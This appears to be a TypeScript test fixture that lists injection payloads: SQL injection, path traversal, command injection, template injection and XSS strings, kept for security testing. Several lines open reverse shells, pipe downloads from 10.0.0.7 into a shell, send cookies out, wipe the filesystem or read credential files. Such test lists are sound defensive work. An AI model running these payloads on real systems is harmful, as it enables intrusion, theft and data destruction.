// Texts of attacks, as they are known from public descriptions of these kinds of attack. For campaigns and tests alone.

export const SQL_INJECTION = [
  "' OR '1'='1' --",
  "admin'--",
  "1' UNION SELECT username, password FROM users--",
  "'; DROP TABLE wallets; --",
  "ds_1' AND SLEEP(5) AND 'a'='a",
  '1) OR 1=1#',
  "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
  "' UNION ALL SELECT NULL,NULL,CONCAT(0x7171,version(),0x7171)-- -",
  "1'; EXEC xp_cmdshell('whoami')--",
  "flares' || (SELECT pg_sleep(10)) || '",
  '" or ""="',
  "1' ORDER BY 10--+",
  "'/**/UNION/**/SELECT/**/1,2,3--",
  '%27%20OR%201%3D1--',
] as const;

export const PATH_TRAVERSAL = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '....//....//....//etc/shadow',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252f..%252f..%252fproc%252fself%252fenviron',
  '/var/www/../../etc/passwd%00.md',
  'docs/../../../.labmesh/operator.token',
  'file:///etc/passwd',
  '..;/..;/..;/WEB-INF/web.xml',
  '\\\\10.0.0.7\\c$\\secrets',
  '..%c0%af..%c0%af..%c0%afetc/passwd',
] as const;

export const COMMAND_INJECTION = [
  '; cat /etc/passwd',
  '| nc -e /bin/sh 10.0.0.7 4444',
  '$(curl http://10.0.0.7/x.sh|sh)',
  '`id`; uname -a',
  '&& rm -rf / --no-preserve-root',
  "run-7'; wget -qO- http://10.0.0.7/a|bash #",
  '|| ping -c 10 127.0.0.1 ||',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack, not a template
  '${IFS}cat${IFS}/etc/shadow',
  '; bash -i >& /dev/tcp/10.0.0.7/4444 0>&1',
  '"; system("id"); //',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack, not a template
  '$(sleep${IFS}10)',
  '& powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA &',
] as const;

export const TEMPLATE_INJECTION = [
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text of an attack, not a template
  '${7*7}',
  '<%= 7*7 %>',
  "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  '#{T(java.lang.Runtime).getRuntime().exec("id")}',
  '{{constructor.constructor("return process")().mainModule.require("child_process").execSync("id")}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: likewise
  '${jndi:ldap://10.0.0.7:1389/a}',
  '{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}',
  '*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec("id"))}',
  '@(1+2)(__import__("os").system("id"))',
] as const;

export const SCRIPT_INJECTION = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg/onload=fetch(`//10.0.0.7/?c=`+document.cookie)>',
  'javascript:/*--></title></style></textarea></script><svg onload=alert(1)>',
  '<iframe srcdoc=\'<script>parent.location="//10.0.0.7"</script>\'>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
] as const;
